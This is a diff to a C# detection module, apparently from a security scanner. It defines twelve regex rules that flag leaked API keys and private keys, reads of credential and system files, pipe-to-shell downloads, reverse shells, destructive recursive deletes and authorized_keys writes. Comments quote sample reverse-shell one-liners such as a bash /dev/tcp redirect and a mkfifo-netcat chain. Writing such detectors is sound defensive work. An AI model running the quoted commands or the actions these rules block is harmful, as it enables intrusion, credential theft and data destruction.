@@ -2,22 +2,304 @@ using System.Text.RegularExpressions;
 
 namespace ClawSec.Core.Detection;
 
-internal static class DefaultRules
+/// <summary>
+/// The twelve built-in rules, named as in the original so users' alerts keep firing. Every quantifier is bounded,
+/// so each rule's <see cref="Rule.MaxMatchLength"/> is a true bound, which streaming relies on.
+/// </summary>
+internal static partial class DefaultRules
 {
-    public static IEnumerable<Rule> Create()
-    {
-        yield return new Rule
+    private const RegexOptions Options = RegexOptions.CultureInvariant | RegexOptions.ExplicitCapture;
+
+    // Boundaries: a token must not continue a longer word, so "task-antelope" is not "sk-ant…" and
+    // "1.1.1nc" is not "nc".
+    private const string NoKeyCharBefore = "(?<![A-Za-z0-9_-])";
+    private const string NoKeyCharAfter = "(?![A-Za-z0-9_-])";
+    private const string NoWordBefore = "(?<![A-Za-z0-9_.-])";
+
+    // A path separator as it appears raw, JSON-escaped (\/), Windows-style or URL-encoded.
+    private const string Sep = @"(?:\\?/|\\{1,2}|%2[Ff])";
+
+    // The shell a downloaded script is piped into, optionally through sudo or env.
+    private const string Shell =
+        @"(?:sudo(?:[ \t]{1,8}-[A-Za-z]{1,8}){0,4}[ \t]{1,8})?(?:/usr/bin/env[ \t]{1,8})?(?:/usr)?(?:/bin/)?"
+        + "(?:ba|z|k|da|a|fi)?sh(?![A-Za-z0-9_.-])";
+
+    // A single pipe, not the "||" of a fallback.
+    private const string Pipe = @"(?<!\|)\|(?!\|)[ \t]{0,8}";
+
+    public static IEnumerable<Rule> Create() =>
+    [
+        new Rule
         {
             Name = "ai_api_key",
             ThreatType = ThreatType.Exfil,
-            Regex = new Regex(@"sk-ant-[A-Za-z0-9_\-]{20,}", RegexOptions.CultureInvariant),
+            Severity = Severity.Critical,
+            Description = "An AI provider API key (Anthropic, OpenAI, OpenRouter, Groq, xAI).",
+            Regex = AiApiKey,
+            Keywords = ["sk-", "gsk_", "xai-"],
             IsSecret = true,
-        };
-        yield return new Rule
+            MaxMatchLength = 512,
+        },
+        new Rule
+        {
+            Name = "aws_access_key",
+            ThreatType = ThreatType.Exfil,
+            Severity = Severity.Critical,
+            Description = "An AWS access key id.",
+            Regex = AwsAccessKey,
+            Keywords = ["akia", "asia", "abia", "acca"],
+            IsSecret = true,
+            MaxMatchLength = 32,
+        },
+        new Rule
+        {
+            Name = "private_key_pem",
+            ThreatType = ThreatType.Exfil,
+            Severity = Severity.Critical,
+            Description = "A PEM or PGP private key block.",
+            Regex = PrivateKeyPem,
+            Keywords = ["private key"],
+            IsSecret = true,
+            MaxMatchLength = 8192,
+        },
+        new Rule
+        {
+            Name = "ssh_key_file",
+            ThreatType = ThreatType.Exfil,
+            Severity = Severity.High,
+            Description = "A path to an SSH private key file.",
+            Regex = SshKeyFile,
+            Keywords = ["id_rsa", "id_dsa", "id_ecdsa", "id_ed25519"],
+            MaxMatchLength = 64,
+        },
+        new Rule
         {
             Name = "unix_sensitive",
             ThreatType = ThreatType.Exfil,
-            Regex = new Regex(@"/etc/(?:passwd|shadow|sudoers)\b", RegexOptions.CultureInvariant),
-        };
-    }
+            Severity = Severity.High,
+            Description = "A path to the system's account or privilege files.",
+            Regex = UnixSensitive,
+            Keywords = ["passwd", "shadow", "sudoers"],
+            MaxMatchLength = 64,
+        },
+        new Rule
+        {
+            Name = "dotenv_file",
+            ThreatType = ThreatType.Exfil,
+            Severity = Severity.High,
+            Description = "A path to a credentials file (.env, AWS or git credentials).",
+            Regex = DotenvFile,
+            Keywords = [".env", "credentials"],
+            MaxMatchLength = 64,
+        },
+        new Rule
+        {
+            Name = "ssh_pubkey",
+            ThreatType = ThreatType.Exfil,
+            Severity = Severity.Low,
+            Description = "An SSH public key.",
+            Regex = SshPubkey,
+            Keywords = ["ssh-", "ecdsa-sha2"],
+            MaxMatchLength = 2048,
+        },
+        new Rule
+        {
+            Name = "pipe_to_shell",
+            ThreatType = ThreatType.Injection,
+            Severity = Severity.High,
+            Description = "A downloaded or decoded script piped into a shell.",
+            Regex = PipeToShell,
+            Keywords = ["curl", "wget", "base64", "iwr", "irm", "invoke-webrequest", "invoke-restmethod"],
+            MaxMatchLength = 1024,
+        },
+        new Rule
+        {
+            Name = "shell_exec",
+            ThreatType = ThreatType.Injection,
+            Severity = Severity.High,
+            Description = "Code that runs a command through a shell.",
+            Regex = ShellExec,
+            Keywords =
+            [
+                "os.system", "os.popen", "os.exec", "subprocess", "child_process", "getruntime", "curl", "wget",
+                "iex", "invoke-expression", "powershell", "pwsh", "shell_exec", "passthru", "proc_open",
+            ],
+            MaxMatchLength = 1024,
+        },
+        new Rule
+        {
+            Name = "reverse_shell",
+            ThreatType = ThreatType.Injection,
+            Severity = Severity.Critical,
+            Description = "A command that connects a shell to a remote host.",
+            Regex = ReverseShell,
+            Keywords =
+            [
+                "/dev/tcp", "/dev/udp", "nc ", "nc\t", "nc.", "ncat", "netcat", "mkfifo", "socat", "socket",
+                "fsockopen", "telnet",
+            ],
+            MaxMatchLength = 2048,
+        },
+        new Rule
+        {
+            Name = "destructive_rm",
+            ThreatType = ThreatType.Injection,
+            Severity = Severity.Critical,
+            Description = "A recursive delete of the root, a system directory or the home directory.",
+            Regex = DestructiveRm,
+            Keywords = ["rm ", "rm\t"],
+            MaxMatchLength = 1024,
+        },
+        new Rule
+        {
+            Name = "ssh_key_inject",
+            ThreatType = ThreatType.Injection,
+            Severity = Severity.Critical,
+            Description = "A write to an SSH authorized_keys file.",
+            Regex = SshKeyInject,
+            Keywords = ["authorized_keys"],
+            MaxMatchLength = 1024,
+        },
+    ];
+
+    [GeneratedRegex(
+        NoKeyCharBefore + "(?:"
+        + "sk-ant-[A-Za-z0-9_-]{20,400}" // Anthropic
+        + "|sk-(?:proj|svcacct|admin)-[A-Za-z0-9_-]{20,400}" // OpenAI project, service account, admin keys
+        + "|sk-or-v1-[0-9a-f]{64}" + NoKeyCharAfter // OpenRouter
+        + "|sk-[A-Za-z0-9]{20}T3BlbkFJ[A-Za-z0-9]{20}" + NoKeyCharAfter // OpenAI legacy
+        + "|gsk_[A-Za-z0-9]{40,100}" + NoKeyCharAfter // Groq
+        + "|xai-[A-Za-z0-9]{40,120}" + NoKeyCharAfter // xAI
+        + "|sk-(?=[A-Za-z]{0,400}[0-9])[A-Za-z0-9]{32,400}" + NoKeyCharAfter // other sk- keys: long, with digits
+        + ")",
+        Options)]
+    private static partial Regex AiApiKey { get; }
+
+    [GeneratedRegex("(?<![A-Za-z0-9])(?:AKIA|ASIA|ABIA|ACCA)[A-Z2-7]{16}(?![A-Za-z0-9])", Options)]
+    private static partial Regex AwsAccessKey { get; }
+
+    // The header, then the key body (base64 lines, raw or JSON-escaped newlines, "Proc-Type:"-style headers, the
+    // one-line form with spaces) up to the END line, so that redacting the value removes the key material.
+    // A space continues the body only after a colon or before a long base64 run, so trailing prose is not taken.
+    [GeneratedRegex(
+        "(?:-----BEGIN (?:(?:RSA|DSA|EC|OPENSSH|ENCRYPTED|SSH2 ENCRYPTED) )?PRIVATE KEY-----"
+        + "|-----BEGIN PGP PRIVATE KEY BLOCK-----)"
+        + @"(?:[A-Za-z0-9+/=\r\n\t,:\\]|-(?!----)|(?<=:) |[ ](?=[A-Za-z0-9+/=]{16})){0,7800}"
+        + "(?:-----END [A-Z0-9 ]{0,40}-----)?",
+        Options)]
+    private static partial Regex PrivateKeyPem { get; }
+
+    // Private keys only: the public half (.pub) and certificates (-cert) are not secrets.
+    [GeneratedRegex(
+        NoWordBefore + @"\.ssh" + Sep + @"id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?" + NoKeyCharAfter + @"(?!\.pub)",
+        Options)]
+    private static partial Regex SshKeyFile { get; }
+
+    // The separator may be preceded by dots: "../../etc/passwd" is path traversal, the classic way to ask for it.
+    [GeneratedRegex(
+        NoKeyCharBefore + Sep + "etc" + Sep + @"(?:passwd|shadow|gshadow|sudoers(?:\.d)?|master\.passwd)"
+        + "(?![A-Za-z0-9_])",
+        Options)]
+    private static partial Regex UnixSensitive { get; }
+
+    // .env and its variants (.env.local, .env.production) but not the committed templates (.env.example).
+    [GeneratedRegex(
+        Sep + "(?:"
+        + @"\.env(?!\.(?:example|sample|template|dist|defaults)" + NoKeyCharAfter + @")(?:\.[A-Za-z0-9_-]{1,32})?"
+        + NoKeyCharAfter
+        + @"|\.aws" + Sep + "credentials" + NoKeyCharAfter
+        + @"|\.git-credentials" + NoKeyCharAfter
+        + ")",
+        Options)]
+    private static partial Regex DotenvFile { get; }
+
+    [GeneratedRegex(
+        NoKeyCharBefore + "(?:"
+        + @"ssh-(?:rsa|dss|ed25519)(?:-cert-v01@openssh\.com)?"
+        + @"|ecdsa-sha2-nistp(?:256|384|521)(?:-cert-v01@openssh\.com)?"
+        + @"|sk-ssh-ed25519@openssh\.com|sk-ecdsa-sha2-nistp256@openssh\.com"
+        + @")[ \t]{1,8}[A-Za-z0-9+/]{40,1600}={0,3}",
+        Options)]
+    private static partial Regex SshPubkey { get; }
+
+    [GeneratedRegex(
+        NoKeyCharBefore + "(?:curl|wget)" + NoKeyCharAfter + @"[^\r\n]{0,300}?" + Pipe + Shell
+        + "|" + NoKeyCharBefore + @"base64[ \t]{1,8}(?:-[A-Za-z]{0,4}[dD][A-Za-z]{0,4}|--decode)" + NoKeyCharAfter
+        + @"[^\r\n]{0,200}?" + Pipe + Shell
+        + "|" + NoKeyCharBefore + @"(?:(?:ba|z|k|da)?sh|source)[ \t]{1,8}<\([ \t]{0,8}(?:curl|wget)" + NoKeyCharAfter
+        + "|(?i:" + NoKeyCharBefore + "(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)" + NoKeyCharAfter
+        + @"[^\r\n]{0,300}?" + Pipe + "(?:iex|invoke-expression)" + NoKeyCharAfter + ")",
+        Options)]
+    private static partial Regex PipeToShell { get; }
+
+    // Code that hands a string to a shell. Running a fixed command (sh -c 'npm test') is ordinary and not matched;
+    // running what was just downloaded (eval "$(curl …)") is.
+    [GeneratedRegex(
+        @"(?<![A-Za-z0-9_.])os\.(?:system|popen|exec(?:l|le|lp|lpe|v|ve|vp|vpe))[ \t]{0,4}\("
+        + @"|(?<![A-Za-z0-9_.])subprocess\.(?:run|call|check_call|check_output|Popen)[ \t]{0,4}\("
+        + @"[^\r\n;]{0,300}?(?<![A-Za-z0-9_])shell[ \t]{0,4}=[ \t]{0,4}True(?![A-Za-z0-9_])"
+        + @"|(?<![A-Za-z0-9_.])subprocess\.(?:getoutput|getstatusoutput)[ \t]{0,4}\("
+        + @"|child_process['""`]?\)?[ \t]{0,4}\.[ \t]{0,4}(?:exec|execSync)[ \t]{0,4}\("
+        + @"|Runtime\.getRuntime\(\)[ \t]{0,4}\.[ \t]{0,4}exec[ \t]{0,4}\("
+        + "|" + NoKeyCharBefore + @"(?:eval|(?:ba|z|k|da)?sh[ \t]{1,8}-c)[ \t]{1,8}[""']?(?:\$\(|`)[ \t]{0,8}(?:curl|wget)"
+        + NoKeyCharAfter
+        + "|(?i:" + NoKeyCharBefore + "(?:iex|invoke-expression)" + NoKeyCharAfter
+        + @"[^\r\n]{0,200}?\.downloadstring[ \t]{0,4}\()"
+        // -e, -ec or any prefix of -EncodedCommand, followed by the base64 command.
+        + "|(?i:" + NoKeyCharBefore + @"(?:powershell|pwsh)(?:\.exe)?" + NoKeyCharAfter + @"[^\r\n]{0,100}?[ \t]-"
+        + "(?:ec|e(?:n(?:c(?:o(?:d(?:e(?:d(?:c(?:o(?:m(?:m(?:a(?:n(?:d)?)?)?)?)?)?)?)?)?)?)?)?)?)"
+        + @"[ \t]{1,8}[A-Za-z0-9+/=]{20,600})"
+        + @"|(?<![A-Za-z0-9_$>:.-])(?:shell_exec|passthru|proc_open)[ \t]{0,4}\(",
+        Options)]
+    private static partial Regex ShellExec { get; }
+
+    [GeneratedRegex(
+        // bash -i >& /dev/tcp/host/port 0>&1, or any use of bash's network redirection.
+        "(?:" + NoKeyCharBefore + @"(?:ba|z|k|da)?sh[ \t]{1,8}-i[ \t]{0,8}(?:[0-9]?>&|&>|>)[ \t]{0,8})?"
+        + @"/dev/(?:tcp|udp)/(?:[A-Za-z0-9.:_-]{1,255}/[0-9]{1,5}(?:[ \t]{0,8}0>&1)?)?"
+        // nc -e /bin/sh, ncat host port -e cmd.exe; a plain "nc -zv host 443" has no program to run.
+        + "|" + NoWordBefore + @"(?:nc|ncat|netcat)(?:\.(?:traditional|openbsd))?(?:[ \t]{1,8}[^\s|;&]{1,100}){0,6}?"
+        + @"[ \t]{1,8}-[A-Za-z]{0,4}[ec][ \t]{0,8}(?:[^\s|;&'""]{0,40}/)?"
+        + @"(?:(?:ba|z|k|da|a)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)" + NoKeyCharAfter
+        // mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f
+        + "|" + NoKeyCharBefore + "mkfifo" + NoKeyCharAfter + @"[^\r\n]{0,200}?" + NoWordBefore
+        + @"(?:nc|ncat|netcat|telnet|openssl[ \t]{1,8}s_client)[ \t]"
+        + "|" + NoKeyCharBefore + @"(?:ba|z|k|da)?sh[ \t]{1,8}-i" + NoKeyCharAfter + @"[^\r\n|]{0,100}\|[ \t]{0,8}"
+        + @"(?:nc|ncat|netcat|telnet)[ \t]"
+        + "|(?i:" + NoKeyCharBefore + "socat" + NoKeyCharAfter + @"[^\r\n]{0,200}?" + NoKeyCharBefore + "(?:exec|system):)"
+        // One-liners that open a socket and hand it a shell.
+        + "|" + NoKeyCharBefore + @"python[0-9.]{0,4}[ \t]{1,8}-c[^\r\n]{0,400}?(?<![A-Za-z0-9_])socket(?![A-Za-z0-9_])"
+        + @"[^\r\n]{0,600}?(?<![A-Za-z0-9_])(?:subprocess|pty|dup2)(?![A-Za-z0-9_])"
+        + "|" + NoKeyCharBefore + @"perl[ \t]{1,8}[^\r\n]{0,60}?(?<![A-Za-z0-9_])-e(?![A-Za-z0-9_])[^\r\n]{0,400}?"
+        + @"(?:Socket|socket[ \t]{0,4}\()[^\r\n]{0,600}?"
+        + @"(?:(?<![A-Za-z0-9_])(?:exec|system)(?![A-Za-z0-9_])|open[ \t]{0,4}\([ \t]{0,4}STD(?:IN|OUT|ERR))"
+        + "|" + NoKeyCharBefore + @"php[ \t]{1,8}-r[^\r\n]{0,300}?fsockopen[ \t]{0,4}\("
+        + "|" + NoKeyCharBefore + @"ruby[ \t]{1,8}-rsocket" + NoKeyCharAfter,
+        Options)]
+    private static partial Regex ReverseShell { get; }
+
+    // rm with a recursive flag aimed at /, /*, a top-level system directory, ~ or $HOME. The target must end
+    // there: "rm -rf /tmp/build" or "rm -rf /var/lib/apt/lists/*" is housekeeping.
+    [GeneratedRegex(
+        NoWordBefore + "rm"
+        + @"(?=(?:[ \t]{1,8}(?:-[A-Za-z]{1,8}|--[a-z-]{1,24})){0,6}?[ \t]{1,8}"
+        + @"(?:-[A-Za-z]{0,7}[rR][A-Za-z]{0,7}|--recursive)(?![A-Za-z-]))"
+        + @"(?:[ \t]{1,8}(?:-[A-Za-z]{1,8}|--[a-z-]{1,24})){1,6}"
+        + @"(?:[ \t]{1,8}[^\s;&|<>]{1,100}){0,4}?"
+        + @"[ \t]{1,8}(?:\\?[""'])?"
+        + @"(?:/(?:(?:bin|boot|dev|etc|home|lib|lib32|lib64|opt|root|sbin|srv|sys|usr|var)/?)?\*?"
+        + @"|~/?\*?|\$(?:HOME|\{HOME\})/?\*?)"
+        + @"(?=[\s;&|)""'`\\,]|$)",
+        Options)]
+    private static partial Regex DestructiveRm { get; }
+
+    // Redirection, tee, cp/mv/install or a Python open(…, "a"/"w") onto authorized_keys; reading it is not matched.
+    [GeneratedRegex(
+        "(?:(?<![>&])(?:>>?|&gt;(?:&gt;)?)"
+        + "|" + NoKeyCharBefore + @"tee(?:[ \t]{1,8}-[A-Za-z-]{1,12}){0,3}"
+        + "|" + NoKeyCharBefore + @"(?:cp|mv|install)(?:[ \t]{1,8}[^\s;|&<>]{1,200}){1,4}?)"
+        + @"[ \t]{0,8}[""']?(?:[^\s'"";|&<>]{0,100}/)?\.ssh/authorized_keys2?(?![A-Za-z0-9_.-])"
+        + @"|(?:[^\s'"";|&<>()]{0,100}/)?\.ssh/authorized_keys2?[""']\)?[ \t]{0,4},[ \t]{0,4}[""'][aw]",
+        Options)]
+    private static partial Regex SshKeyInject { get; }
 }
